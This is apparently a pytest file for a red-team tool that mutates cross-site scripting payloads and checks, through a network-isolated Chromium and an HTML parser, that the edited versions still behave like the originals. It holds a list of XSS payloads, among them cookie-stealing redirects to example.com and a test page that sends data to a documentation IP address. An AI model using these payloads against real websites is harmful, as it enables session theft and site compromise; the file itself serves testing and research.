"""Edited script injections still do what they did, and both oracles know one that does not."""

from __future__ import annotations

import csv
import gzip
from collections import Counter
from pathlib import Path
from random import Random

import pytest

from overproof.redteam.base import Edited, Oracle, Proof, mutated
from overproof.redteam.mutate.html import MUTATORS
from overproof.redteam.oracle import chromium
from overproof.redteam.oracle.html import NOTHING_SEEN, browser_oracle, html_oracle
from overproof.redteam.oracle.html_parse import parse_oracle

PAYLOADS = r"""
"><script>alert('x')</script>
<script>alert(1)</script>
<SCRIPT>alert("x");</SCRIPT>
<script >prompt(962477)</script>
<<script>document.cookie=true;</script>
<script>document.location='http://example.com/?c='+document.cookie</script>
<script>alert(String.fromCharCode(88,83,83))</script>
<script src=http://example.com/a.js></script>
<script>window.open('http://example.com/')</script>
</script><script>alert(1)</script>
</textarea><script>alert(/x/.source)</script>
</title><svg onload=confirm(2)>
--><img src=x onerror=alert(1)>
'><img src="x" onerror="alert(document.domain)">
<img src=x onerror=alert(1)>
<img src="x" onerror="alert('x')"/>
<IMG SRC=x onerror=alert(1) alt='a b'>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<body onload=alert(1)>
<p/onclick=alert(/x/)>a
<div style="width:100%" onmouseover="prompt(1)" onclick="alert(1)">x</div>
<input autofocus onfocus=alert(1)>
<details open ontoggle=confirm`1`>
<a href="javascript:alert(1)" id="a">test</a>
<a href=javascript:alert(1)>click
<a href='java&#115;cript:alert(document.cookie)'>x</a>
<iframe src="javascript:alert(1)"></iframe>
<form action="javascript:alert(1)"><input type=submit>
<img src=x onerror="&#97;lert(1)">
<x contenteditable onblur=alert(1)>
" onmouseover="alert(1)
' onclick=alert(1) x='
x onfocus=alert(1) autofocus
';alert(1)//
";alert('x');//
'-alert(1)-'
"+prompt('a b',1)+"
javascript:alert(1)
javascript:alert(document.cookie);
JaVaScRiPt:eval('al'+'ert(1)')
top['al\145rt'](1)
alert(1)
"><img src=x onerror=setTimeout('alert(1)')>
<script>/*a:/*-/*`/*'/*"/**/(/* */onClick=alert() )//</style/</title/--!><svg/onload=alert()//>*/</script>
<![><img alt="]><img src=x onerror=alert(3)//">
'">><u><img src=x onerror=confirm(1)></u>"></p\><p/onclick=prompt(1)><script>prompt(2)</script>'--><b id="c"/title='d'>
<base href="javascript://"><a href="/. /,javascript:alert(2)//#">x</a>
<a href="javascript:void(0)" onmouseover=&NewLine;alert(4)&NewLine;>x</a>
<p id="a"><link rel="stylesheet" href="a.css" />//["'`-->]]>]</p>
<img id=a src="&14;javascript:alert('x');">
<script>alert(document.body.innerHTML.match(/'([^']+)/)[1])//'x'</script>
<script>function a(b){if(b)alert(b);else prompt(b)};a(1);for(i=0;i<2;i++)alert(i)</script>
""".strip().splitlines()

needs_chromium = pytest.mark.skipif(
    isinstance(chromium.program(), str), reason="no Chromium that could be run apart from the network"
)


def edited_pairs(texts: list[str], *, seed: int, most: int) -> list[tuple[str, str]]:
    random, pairs = Random(seed), []
    for text in texts:
        edited = Edited(text)
        for _ in range(random.randint(1, most)):
            edited = mutated(edited, MUTATORS, random) or edited
        pairs.append((text, edited.text))
    return pairs


def meanings(pairs: list[tuple[str, str]], proofs: list[Proof]) -> Counter[str]:
    changed = [(*pair, proof.how) for pair, proof in zip(pairs, proofs, strict=True) if proof.meaning == "changed"]
    assert not changed
    return Counter(proof.meaning for proof in proofs)


@needs_chromium
def test_chains_of_edits_do_what_the_original_does() -> None:
    pairs = [pair for seed in range(3) for pair in edited_pairs(PAYLOADS, seed=seed, most=6)]
    assert meanings(pairs, browser_oracle(pairs))["proved"] == len(pairs)


def test_parsing_alone_proves_some_chains_and_accuses_none() -> None:
    pairs = [pair for seed in range(10) for pair in edited_pairs(PAYLOADS, seed=seed, most=2)]
    assert meanings(pairs, parse_oracle(pairs))["proved"] > 0.35 * len(pairs)


@needs_chromium
@pytest.mark.slow
def test_real_payloads_do_what_they_did(shared_data: Path) -> None:
    with gzip.open(shared_data / "http" / "train.csv.gz", "rt", encoding="utf-8", newline="") as file:
        texts = [row["text"] for row in csv.DictReader(file) if row["family"] == "xss"]
    pairs = edited_pairs(Random(5).sample(texts, 300), seed=5, most=4)
    # most rows of that set are titles, prose or for browsers of old
    assert meanings(pairs, browser_oracle(pairs))["proved"] >= 70


DISARMED = [
    ("<script>alert(1)</script>", "<script>alert(2)</script>"),
    ("<script>alert(1)</script>", "<scrip>alert(1)</script>"),
    ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("<img src=x onerror=alert(1)>", "<img onerror=alert(1)>"),
    ("<img src=x onerror=alert(1)>", "<img title=x/onerror=alert(1)>"),
    ("<img src=x onerror=alert(1)>", "<b src=x onerror=alert(1)>"),
    ("<input autofocus onfocus=alert(1)>", "<input onfocus=alert(1)>"),
    ("';alert(1)//", "\\';alert(1)//"),
    ("';alert(1)//", "';//alert(1)"),
    ("';alert(1)//", "';alert(1)"),
    ("javascript:alert(1)", "java script:alert(1)"),
    ("javascript:alert(1)", "http://example.com/"),
    ('"><script>alert(1)</script>', "'><script>alert(1)</script>"),
    ("<script>alert(1);alert(2)</script>", "<script>alert(2);alert(1)</script>"),
    ("<script src=http://example.com/a.js></script>", "<script src=http://example.com/b.js></script>"),
    ("<script>location='http://example.com/'</script>", "<script>location</script>"),
    ("<script>document.cookie=true</script>", "<script>document.title=true</script>"),
]


@needs_chromium
def test_a_disarmed_attack_is_changed() -> None:
    proofs = browser_oracle(DISARMED)
    assert [pair for pair, proof in zip(DISARMED, proofs, strict=True) if proof.meaning != "changed"] == []


def test_parsing_alone_does_not_prove_a_disarmed_attack() -> None:
    assert {proof.meaning for proof in parse_oracle(DISARMED)} == {"unproved"}


NOTHING = [
    "",
    "shoes",
    "Exploit Name: Case Insensitive",
    "<b>bold</b>",
    "onclick",
    "<img src=a.png>",
    "alert(",
    "\ud800",
]


@pytest.mark.parametrize("oracle", [pytest.param(browser_oracle, marks=needs_chromium), parse_oracle])
def test_what_does_nothing_is_unproved(oracle: Oracle) -> None:
    assert {proof.meaning for proof in oracle([(text, text) for text in NOTHING])} == {"unproved"}


@needs_chromium
def test_what_never_ends_costs_no_other(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(chromium, "QUIET_S", 6.0)
    first, hung, last = browser_oracle([("<script>alert(3)</script>",) * 2, ("for(;;);",) * 2, ("alert(4)",) * 2])
    assert (first.meaning, hung.meaning, last.meaning) == ("proved", "unproved", "proved")
    assert "did not end in time" in hung.how


@needs_chromium
def test_nobody_is_reached_and_nothing_kept() -> None:
    page = "<script>document.cookie='a=1';fetch('http://192.0.2.1/');navigator.sendBeacon('http://192.0.2.1/','b')</script>"
    assert chromium.effects([page]) == [("cookie set a=1", "fetch http://192.0.2.1/", "sendBeacon http://192.0.2.1/ b")]


@needs_chromium
def test_effects_are_the_same_again() -> None:
    pages = ["<script>alert(Math.random())</script><img src=x onerror=alert(1)>", "<svg onload=alert(2)>"]
    assert chromium.effects(pages) == chromium.effects(pages)


def test_without_chromium_it_is_parsed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(chromium, "program", lambda: "Chromium is not installed")
    pair = ('"><svg/onload=alert(1)>', "\"><svg/title='a b'/onload=alert(1)>")
    (proof,) = html_oracle([pair])
    assert proof.meaning == "proved"
    assert proof.how.startswith("parsed as a browser would: the same elements and scripts in an element")
    assert browser_oracle([pair]) == [Proof("unproved", "Chromium is not installed")]


def test_without_a_parser_nothing_is_proved(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("overproof.redteam.oracle.html_parse.find_spec", lambda name: None)
    how = "selectolax is not installed (pip install 'overproof[attack]')"
    assert parse_oracle([("<svg onload=alert(1)>",) * 2]) == [Proof("unproved", how)]


@needs_chromium
def test_with_chromium_and_without_a_parser_what_shows_nothing_is_unproved(monkeypatch: pytest.MonkeyPatch) -> None:
    pair = ("<img src='vbscript:a(1)'>", "<IMG src='vbscript:a(1)'>")
    assert html_oracle([pair])[0].meaning == "proved"
    monkeypatch.setattr("overproof.redteam.oracle.html_parse.find_spec", lambda name: None)
    assert html_oracle([pair]) == [Proof("unproved", NOTHING_SEEN)]


@pytest.mark.parametrize("name", chromium.PROGRAMS)
def test_root_runs_no_chromium_without_a_namespace(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("shutil.which", lambda word: f"/usr/bin/{name}" if word == name else None)
    monkeypatch.setattr("os.geteuid", lambda: 0)
    chromium.program.cache_clear()
    found = chromium.program()
    chromium.program.cache_clear()
    assert found == "no namespace can be made, and Chromium is not run as root without one"
